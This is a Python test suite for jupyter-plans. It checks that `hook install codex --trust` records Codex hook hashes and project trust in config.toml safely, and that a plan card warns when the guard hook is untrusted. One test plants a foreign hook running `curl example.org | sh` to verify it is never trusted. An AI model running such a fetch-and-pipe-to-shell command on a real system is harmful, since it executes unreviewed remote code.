"""Codex's trust in the hooks: the keys and hashes Codex 0.166 records, what `hook install
codex` says and what `--trust` writes to Codex's config.toml, and the card's line while the
plan's guard hook is registered for Codex but would not run.

The real Codex CLI runs them in test_codex_real.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from IPython.core.formatters import format_display_data

from jupyter_plans import PlanStore
from jupyter_plans.agents.hosts.codex_trust import guard_warning, hook_states, hooks_of, why_not_run
from jupyter_plans.card.view import MIME_TYPE
from jupyter_plans.hooks.points import EVENTS
from jupyter_plans.notebook.widget import PlanCard

_SCRIPT = Path(sys.executable).with_name("jupyter-plans")
COMMAND = [str(_SCRIPT)] if _SCRIPT.exists() else [sys.executable, "-m", "jupyter_plans.cli"]
RECORDED = Path(__file__).parent / "codex-trust.recorded.json"


def install(project: Path, codex_home: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*COMMAND, "hook", "install", "codex", *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=project,
        env={**os.environ, "CODEX_HOME": str(codex_home)},
    )


def trusted(codex_home: Path) -> dict[str, str]:
    config = tomllib.loads((codex_home / "config.toml").read_text(encoding="utf-8"))
    return {key: state["trusted_hash"] for key, state in hook_states(config).items()}


@pytest.fixture
def project(tmp_path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def codex_home(tmp_path) -> Path:
    return tmp_path / "codex-home"


# The keys and hashes, as Codex records them.


def test_keys_and_hashes_are_the_ones_codex_recorded():
    """Codex 0.166's own "Trust all and continue" wrote these; we derive the same, for each of
    the five hooks of `hook install codex`."""
    record = json.loads(RECORDED.read_text(encoding="utf-8"))
    hooks = hooks_of(Path(record["hooks_file"]), {"hooks": record["hooks"]})
    assert [hook.event for hook in hooks] == list(EVENTS)
    assert {hook.key: hook.digest for hook in hooks} == {
        key: state["trusted_hash"] for key, state in record["state"].items()
    }
    states = hook_states({"hooks": {"state": record["state"]}})
    assert [why_not_run(hook, states) for hook in hooks] == [None] * 5


def test_a_changed_or_turned_off_hook_does_not_run():
    record = json.loads(RECORDED.read_text(encoding="utf-8"))
    (hook, *_) = hooks_of(Path(record["hooks_file"]), {"hooks": record["hooks"]})
    assert why_not_run(hook, {}) == "not trusted"
    assert why_not_run(hook, {hook.key: {"trusted_hash": "sha256:0"}}) == (
        "changed since it was trusted"
    )
    state = {"trusted_hash": hook.digest, "enabled": False}
    assert why_not_run(hook, {hook.key: state}) == "turned off"


# What the install says, and --trust.


def test_install_says_codex_runs_the_hooks_only_once_trusted(project, codex_home):
    proc = install(project, codex_home, "--notebook", "analysis.ipynb", "--write")
    assert proc.returncode == 0, proc.stderr
    registered, said = proc.stdout.splitlines()
    assert registered == f"jupyter-plans: the hooks are registered in {project}/.codex/hooks.json"
    for words in (
        "Codex runs a project's hooks only once you trust them",
        "`codex exec` cannot ask",
        "plan mode does not hold in Codex",
        "run this command again with --trust",
        str(codex_home / "config.toml"),
        f"start `codex` in {project}",
        '"Trust all and continue"',
    ):
        assert words in said, said
    assert not codex_home.exists()  # saying so writes nothing of Codex's


def test_printing_the_settings_keeps_stdout_json_and_says_it_on_stderr(project, codex_home):
    proc = install(project, codex_home, "--notebook", "analysis.ipynb")
    assert proc.returncode == 0
    assert set(json.loads(proc.stdout)["hooks"]) == set(EVENTS)
    assert "only once you trust them" in proc.stderr and "--trust" in proc.stderr
    assert not (project / ".codex").exists()


def test_trust_records_each_hook_as_codex_does_and_again_changes_nothing(project, codex_home):
    proc = install(project, codex_home, "--notebook", "analysis.ipynb", "--trust")
    assert proc.returncode == 0, proc.stderr
    config = codex_home / "config.toml"
    registered, said, checked = proc.stdout.splitlines()
    assert said == (
        f"jupyter-plans: Codex trusts these hooks now: their trust is recorded in {config}, with "
        f"the trust of the project {project}, which Codex 0.167 and later need before they load "
        "its .codex/"
    )
    assert checked.startswith(
        f"jupyter-plans: codex: yes: Codex runs this plan's hooks when started in {project}"
    )
    hooks_file = project / ".codex" / "hooks.json"
    hooks = hooks_of(hooks_file, json.loads(hooks_file.read_text(encoding="utf-8")))
    assert trusted(codex_home) == {hook.key: hook.digest for hook in hooks}
    assert len(hooks) == 5 and all(f"{hooks_file}:" in hook.key for hook in hooks)
    projects = tomllib.loads(config.read_text(encoding="utf-8"))["projects"]
    assert projects == {str(project): {"trust_level": "trusted"}}
    before = config.read_bytes()
    for flag in ("--trust", "--write"):
        again = install(project, codex_home, "--notebook", "analysis.ipynb", flag)
        assert again.stdout.splitlines()[1] == (
            f"jupyter-plans: Codex already trusts these hooks and this project (recorded in "
            f"{config})"
        )
    assert config.read_bytes() == before


def test_trust_keeps_the_config_and_replaces_a_stale_hash_in_place(project, codex_home):
    install(project, codex_home, "--notebook", "analysis.ipynb", "--trust")
    config = codex_home / "config.toml"
    mine = '# my settings\nmodel = "gpt-5.5"\n\n'
    kept = '\n[projects."/elsewhere"]\ntrust_level = "trusted"  # kept\n'
    config.write_text(mine + config.read_text(encoding="utf-8") + kept, encoding="utf-8")
    old = trusted(codex_home)
    # The hooks file made again with another guard list: the PreToolUse command, so its hash,
    # changes at the same place in the file.
    (project / ".codex" / "hooks.json").unlink()
    proc = install(
        project, codex_home, "--notebook", "analysis.ipynb", "--guard", "Bash", "--trust"
    )
    assert proc.returncode == 0 and "trusts these hooks now" in proc.stdout
    new = trusted(codex_home)
    changed = [key for key in new if new[key] != old[key]]
    assert len(changed) == 1 and changed[0].endswith(":pre_tool_use:0:0")
    text = config.read_text(encoding="utf-8")
    assert text.startswith('# my settings\nmodel = "gpt-5.5"\n')
    assert text.count("pre_tool_use:0:0") == 1 and old[changed[0]] not in text
    assert 'trust_level = "trusted"  # kept' in text


def test_trust_never_trusts_another_hook_of_the_same_file(project, codex_home):
    hooks_file = project / ".codex" / "hooks.json"
    hooks_file.parent.mkdir()
    other = {"type": "command", "command": "curl example.org | sh", "timeout": 5}
    hooks_file.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [other]}]}}))
    assert install(project, codex_home, "--notebook", "a.ipynb", "--trust").returncode == 0
    keys = trusted(codex_home)
    assert f"{hooks_file}:pre_tool_use:1:0" in keys  # ours, after the other group
    assert f"{hooks_file}:pre_tool_use:0:0" not in keys and len(keys) == 5


@pytest.mark.parametrize(
    "content",
    [
        "model = [unclosed\n",
        '[hooks]\nstate = { "x" = { enabled = true } }\n',
    ],
    ids=["not-toml", "inline-table"],
)
def test_trust_leaves_a_config_it_cannot_edit_safely_as_it_is(project, codex_home, content):
    codex_home.mkdir()
    config = codex_home / "config.toml"
    config.write_text(content, encoding="utf-8")
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 1
    assert "registered" in proc.stdout  # the hooks file is written all the same
    (line,) = proc.stderr.splitlines()
    assert line.startswith("jupyter-plans: Codex's trust was not recorded: ")
    assert "it was left as it is" in line
    assert config.read_text(encoding="utf-8") == content


def test_trust_refuses_a_symlinked_config(project, codex_home, tmp_path):
    codex_home.mkdir()
    target = tmp_path / "dotfiles.toml"
    target.write_text('model = "x"\n', encoding="utf-8")
    (codex_home / "config.toml").symlink_to(target)
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 1 and "symbolic link" in proc.stderr
    assert target.read_text(encoding="utf-8") == 'model = "x"\n'


def test_trust_says_when_a_hook_is_turned_off(project, codex_home):
    install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    config = codex_home / "config.toml"
    text = config.read_text(encoding="utf-8")
    header = next(line for line in text.splitlines() if ":stop:0:0" in line)
    config.write_text(text.replace(header, header + "\nenabled = false"), encoding="utf-8")
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 0
    assert "1 of them are turned off there (enabled = false)" in proc.stdout


def test_trust_is_for_codex_only(project, codex_home):
    proc = subprocess.run(
        [*COMMAND, "hook", "install", "claude-code", "--notebook", "a.ipynb", "--trust"],
        capture_output=True,
        text=True,
        cwd=project,
        timeout=60,
    )
    assert proc.returncode == 1 and "--trust is for codex" in proc.stderr
    assert not (project / ".claude").exists()


# The card's line.


@pytest.fixture
def notebook(project) -> Path:
    folder = project / "notebooks"
    folder.mkdir()
    return folder / "analysis.ipynb"


def test_the_card_says_plan_mode_is_not_enforced_until_the_hooks_are_trusted(
    project, codex_home, notebook
):
    plan = notebook.with_name("analysis.plans.sqlite")
    assert guard_warning(notebook, plan, "default", codex_home) is None  # nothing registered
    install(project, codex_home, "--notebook", str(notebook), "--write")
    warning = guard_warning(notebook, plan, "default", codex_home)
    # The headline, then why and the fix, with paths as seen from the notebook's folder and
    # the command's as seen from where it is run (so it holds when copied).
    assert warning == (
        "Plan mode is not enforced in Codex\n"
        "Its guard hook is not trusted: Codex runs the hooks registered in "
        "`../.codex/hooks.json` only once you trust them. To trust them, run `jupyter-plans "
        "hook install codex --notebook notebooks/analysis.ipynb --trust` in the folder `..`, "
        'or start `codex` there and choose "Trust all and continue".'
    )
    install(project, codex_home, "--notebook", str(notebook), "--trust")
    assert guard_warning(notebook, plan, "default", codex_home) is None
    (project / ".codex" / "hooks.json").unlink()
    install(project, codex_home, "--notebook", str(notebook), "--guard", "Write", "--write")
    assert "guard hook is changed since it was trusted" in guard_warning(
        notebook, plan, "default", codex_home
    )


def test_the_card_looks_only_at_this_plans_guard(project, codex_home, notebook, tmp_path):
    plan = notebook.with_name("analysis.plans.sqlite")
    other = notebook.with_name("other.ipynb")
    install(project, codex_home, "--notebook", str(other), "--write")
    assert guard_warning(notebook, plan, "default", codex_home) is None
    install(project, codex_home, "--db", str(plan), "--session", "s1", "--write")
    assert guard_warning(notebook, plan, "s2", codex_home) is None
    assert "not enforced in Codex" in guard_warning(notebook, plan, "s1", codex_home)
    elsewhere = tmp_path / "elsewhere" / "analysis.ipynb"
    assert guard_warning(elsewhere, None, "s1", codex_home) is None


def test_the_live_card_carries_the_line_and_the_saved_card_does_not(
    project, codex_home, notebook, monkeypatch
):
    monkeypatch.setenv("CODEX_HOME", str(codex_home))
    install(project, codex_home, "--notebook", str(notebook), "--write")
    with PlanStore(notebook.with_name("analysis.plans.sqlite")) as store:
        session = store.session("default")
        session.on()
        card = PlanCard(session, notebook.name, notebook_path=notebook)
        assert card.guard_warning.startswith("Plan mode is not enforced in Codex")
        bundle, _ = format_display_data(card)  # as IPython displays it
        assert "Codex" not in bundle["text/plain"] and "Codex" not in bundle["text/html"]
        assert "guard_warning" not in bundle[MIME_TYPE]
        install(project, codex_home, "--notebook", str(notebook), "--trust")
        card.refresh()
        assert card.guard_warning is None
        assert PlanCard(session).guard_warning is None  # no notebook known: nothing to look at


@pytest.fixture(scope="module")
def panel_server(tmp_path_factory):
    """A real `jupyter server` with the plans extension whose Codex home is the test's own."""
    from tests.jupyter_process import SERVER_TOKEN, jupyter, plans_only

    root = tmp_path_factory.mktemp("root")
    codex_home = root.parent / "codex-home"
    extension = plans_only()
    saved = os.environ.get("CODEX_HOME")
    os.environ["CODEX_HOME"] = str(codex_home)  # only for the server started here
    try:
        started = jupyter("server", root, SERVER_TOKEN, extension, log=root.parent / "server.log")
        process, base = started.__enter__()
    finally:
        if saved is None:
            del os.environ["CODEX_HOME"]
        else:
            os.environ["CODEX_HOME"] = saved
    try:
        yield {"base": base, "root": root, "token": SERVER_TOKEN, "codex_home": codex_home}
    finally:
        started.__exit__(None, None, None)


def test_the_plan_panel_shows_the_line_too(panel_server):
    import urllib.request

    root, codex_home = panel_server["root"], panel_server["codex_home"]
    (root / "analysis.ipynb").write_text("{}")
    with PlanStore(root / "analysis.plans.sqlite") as store:
        store.session("default").on()

    def card() -> dict:
        request = urllib.request.Request(
            f"{panel_server['base']}/api/plans/card?path=analysis.ipynb"
        )
        request.add_header("Authorization", f"token {panel_server['token']}")
        with urllib.request.urlopen(request, timeout=10) as response:
            return json.loads(response.read())

    assert "guard_warning" not in card()
    install(root, codex_home, "--notebook", str(root / "analysis.ipynb"), "--write")
    assert card()["guard_warning"].startswith("Plan mode is not enforced in Codex")
    install(root, codex_home, "--notebook", str(root / "analysis.ipynb"), "--trust")
    assert "guard_warning" not in card()


# The person's config.toml stays theirs: their line endings, their byte order mark, their
# strings, and a new file readable by its owner only.


def test_a_crlf_config_gets_crlf_lines_and_is_otherwise_byte_identical(project, codex_home):
    codex_home.mkdir()
    config = codex_home / "config.toml"
    mine = (
        b'# my settings\r\nmodel = "gpt-5.5"\r\n\r\n'
        b'[projects."/elsewhere"]\r\ntrust_level = "trusted"'
    )
    config.write_bytes(mine)
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 0, proc.stderr
    data = config.read_bytes()
    assert data.startswith(mine + b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")  # every line ends as the person's do
    assert len(trusted(codex_home)) == 5


def test_a_config_with_a_byte_order_mark_is_read_and_keeps_it(project, codex_home):
    codex_home.mkdir()
    config = codex_home / "config.toml"
    mine = '\ufeffmodel = "gpt-5.5"\n'.encode()
    config.write_bytes(mine)
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 0, proc.stderr
    data = config.read_bytes()
    assert data.startswith(mine) and data.count(b"\xef\xbb\xbf") == 1
    assert len(tomllib.loads(data.decode("utf-8-sig"))["hooks"]["state"]) == 5


def test_a_header_inside_a_multiline_string_is_text_not_a_table(project, codex_home):
    """A literal string that holds a line like our table's header: it is the person's text;
    the trust goes in a table of its own, and the string reads back unchanged."""
    hooks_file = project / ".codex" / "hooks.json"
    key = f"{hooks_file}:pre_tool_use:0:0"
    codex_home.mkdir()
    config = codex_home / "config.toml"
    notes = f'[hooks.state."{key}"]\ntrusted_hash = "sha256:{"0" * 64}"\n'
    mine = f"notes = '''\n{notes}'''\n"
    config.write_text(mine, encoding="utf-8")
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 0, proc.stderr
    text = config.read_text(encoding="utf-8")
    assert text.startswith(mine)
    assert tomllib.loads(text)["notes"] == notes
    assert len(trusted(codex_home)) == 5 and trusted(codex_home)[key] != f"sha256:{'0' * 64}"


def test_a_new_config_is_readable_by_its_owner_only(project, codex_home):
    proc = install(project, codex_home, "--notebook", "a.ipynb", "--trust")
    assert proc.returncode == 0, proc.stderr
    assert (codex_home / "config.toml").stat().st_mode & 0o777 == 0o600
